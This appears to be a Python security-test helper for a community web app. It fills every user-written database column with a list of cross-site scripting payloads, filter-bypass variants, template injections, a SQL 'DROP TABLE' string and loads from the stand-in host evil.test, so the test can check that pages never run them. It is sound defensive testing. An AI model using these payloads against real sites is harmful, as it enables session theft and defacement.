"""Hostile words in every text a person can write: put into the rows themselves, so no form's own checks stand before the pages.

``WORDS`` names the columns people fill; a text column that is in neither list makes the test fail, so a new field is thought of.
"""

import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

RUN = 'window.__ran=1'
PAYLOADS = (
    f'<script>{RUN}</script>', f'<ScRiPt>{RUN}</sCrIpT>', '<script src=//evil.test/x.js></script>', f'<img src=x onerror={RUN}>',
    f'<img src=x onerror="{RUN}">', f'<img/src=x/onerror={RUN}>', '<img src=//evil.test/p.png>', f'<svg onload={RUN}>', f'<svg/onload={RUN}>',
    f'<svg><script>{RUN}</script></svg>', f'<svg><animate onbegin={RUN} attributeName=x dur=1s>', f'<body onload={RUN}>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>">', '<iframe src=//evil.test/></iframe>', f'<iframe src="javascript:parent.{RUN}">',
    f'<a href="javascript:{RUN}">点我</a>', f'<a href="java&#x09;script:{RUN}">点我</a>', f'<a href=" &#14; javascript:{RUN}">点我</a>',
    f'<input autofocus onfocus={RUN}>', f'<select autofocus onfocus={RUN}>', f'<textarea autofocus onfocus={RUN}>',
    f'<details open ontoggle={RUN}>', f'<video><source onerror={RUN}>', f'<audio src=x onerror={RUN}>', f'<marquee onstart={RUN}>',
    f'<math><mtext><mglyph><style><img src=x onerror={RUN}>', f'<template><img src=x onerror={RUN}></template>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', f'<form><button formaction="javascript:{RUN}">去</button></form>',
    f'<object data="javascript:{RUN}">', f'<embed src="javascript:{RUN}">', '<link rel=stylesheet href=//evil.test/x.css>',
    '<base href=//evil.test/>', '<meta http-equiv=refresh content="0;url=//evil.test/">', '<style>@import"//evil.test/x.css"</style>',
    '<div style="background:url(//evil.test/b.png)">', f'<x onclick={RUN} style=position:fixed;inset:0>', f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>", f'" onmouseover="{RUN}" x="', f"' onfocus='{RUN}' autofocus x='", f'</textarea><script>{RUN}</script>',
    f'</title><script>{RUN}</script>', f'</script><script>{RUN}</script>', f'--><script>{RUN}</script>', f']]><script>{RUN}</script>',
    f'{{{{constructor.constructor("{RUN}")()}}}}', '{{$el.ownerDocument.defaultView.__ran=1}}', f'${{{RUN}}}', f'`;{RUN};`',
    f'";{RUN};//', f"';{RUN};//", f'\\";{RUN};//', f'javascript:{RUN}', f'data:text/html,<script>{RUN}</script>',
    f'[点我](javascript:{RUN})', f'![x](x"onerror="{RUN})', f'&lt;script&gt;{RUN}&lt;/script&gt;', f'%3Cscript%3E{RUN}%3C/script%3E',
    f'＜script＞{RUN}＜/script＞', f'\u202e<script>{RUN}</script>\u202c', f'<scr\u200bipt>{RUN}</script>', f'<img src=x:alert(1) onerror\u000b={RUN}>',
    f'<!--<img src="--><img src=x onerror={RUN}>', f'<p v-html="\'<img src=x onerror={RUN}>\'">', f'<component :is="\'script\'">{RUN}</component>',
    '<q-btn @click="window.__ran=1">', '%(x)s {0} {x!r} %n', "'; DROP TABLE message; --", '\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e',
)

WORDS: dict[str, tuple[str, ...]] = {
    'answer_log': ('text', 'body'), 'ballot': ('place_name', 'title', 'body', 'cancel_reason'), 'ballot_option': ('text',),
    'ballot_roll': ('label',), 'blocked_term': ('term',), 'allowed_phrase': ('phrase',),
    'handoff_case': ('question', 'talk'), 'department': ('name', 'about'),
    'household': ('room_no',), 'incident': ('title',), 'incident_entry': ('text',), 'join_code': ('note',),
    'kb_signature': ('reason',),
    'kb_entry': ('question', 'answer', 'category', 'department', 'source', 'steps', 'policy_no', 'links', 'review_note'),
    'kb_revision': ('note',), 'kb_similar': ('text',), 'login_session': ('device',),
    'member': ('nickname', 'skills'), 'message': ('body', 'payload'), 'place': ('name',),
    'room': ('title', 'welcome', 'rules', 'last_line', 'question'), 'room_file': ('name',),
    'room_member': ('nickname',),
    'topic': ('place_name', 'title', 'summary', 'decision'), 'topic_draft': ('body', 'note'), 'topic_opinion': ('body', 'answer'),
    'topic_progress': ('body',), 'volunteer_call': ('title', 'text'), 'volunteer_shift': ('title', 'spot', 'skills'),
    'entry_request': ('nickname', 'room_no', 'answer', 'reason'), 'access_entry': ('reason',), 'export_request': ('purpose', 'refusal'),
    'moderation_act': ('note', 'undone_why'), 'report_case': ('body',), 'report': ('note',), 'appeal': ('words', 'answer'),
    'held_message': ('draft',), 'removal_proposal': ('note',), 'acting_entry': ('words',), 'household_change': ('note',),
    'roll_person': ('name_mask',), 'real_name': ('name_mask',), 'identity_check': ('name_mask', 'reason'), 'chain': ('title', 'example'),
    'chain_line': ('text',), 'phone_change': ('reason',),
    'office_handover': ('note',),
}
"""What people write, directly or into a list."""

MACHINE = frozenset({
    'key', 'kind', 'state', 'level', 'mode', 'role', 'relation', 'method', 'unit', 'band', 'reason', 'outcome', 'stance', 'action', 'how',
    'token', 'client_id', 'path', 'place_path', 'locale', 'secret', 'nonce', 'version', 'purpose', 'text_version', 'rules', 'rule', 'day',
    'on_day', 'asker', 'rater', 'subject', 'what', 'image', 'version_num', 'password_hash', 'code_hash', 'phone_hash', 'phone_mask',
    'token_digest', 'ticket_digest', 'name_key', 'phone_key', 'tail_key', 'number_key', 'last_error', 'choice', 'candidates', 'detail',
    'recovery', 'payload', 'mentions', 'profile', 'purposes', 'before', 'after', 'papers', 'content', 'category', 'term', 'passed',
    'digest', 'entries', 'regressions', 'pending', 'pending_state', 'act', 'hours',
})
"""Names of columns that hold what the house itself writes: codes, hashes, numbers in lists."""
DOORS = {'demo_account'}
"""The buttons by which the test comes in."""
_PLAIN = re.compile(r'[a-z_0-9./:?=&-]*')


def text_columns(folder: Path) -> dict[str, list[str]]:
    """Return every column that can hold text, by table."""
    with closing(sqlite3.connect(folder / 'yunshequ.db')) as db:
        tables = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
                  if not name.startswith(('message_search', 'sqlite_'))]
        return {table: [row[1] for row in db.execute(f'PRAGMA table_info({table})') if row[2].startswith(('VARCHAR', 'TEXT', 'JSON'))]
                for table in tables}


def poison(folder: Path) -> int:
    """Put payloads into all that people have written; return how many values it was."""
    done = 0
    with closing(sqlite3.connect(folder / 'yunshequ.db')) as db, db:
        for table, columns in WORDS.items():
            for place, column in enumerate(columns):
                for rowid, value in db.execute(f'SELECT rowid, {column} FROM {table} WHERE {column} IS NOT NULL').fetchall():
                    db.execute(f'UPDATE {table} SET {column} = ? WHERE rowid = ?', (_poisoned(value, 7 * place + rowid), rowid))
                    done += 1
    return done


def _poisoned(value: str, turn: int) -> str:
    if value[:1] in {'[', '{'}:
        return json.dumps(_leaves(json.loads(value), turn), ensure_ascii=False)
    return f'{PAYLOADS[turn % len(PAYLOADS)]}{value}{PAYLOADS[(turn + 31) % len(PAYLOADS)]}'


def _leaves(value: Any, turn: int) -> Any:
    if isinstance(value, list):
        return [_leaves(one, turn + n) for n, one in enumerate(value)]
    if isinstance(value, dict):
        return {name: _leaves(one, turn) for name, one in value.items()}
    return _poisoned(value, turn) if isinstance(value, str) and value and not _PLAIN.fullmatch(value) else value
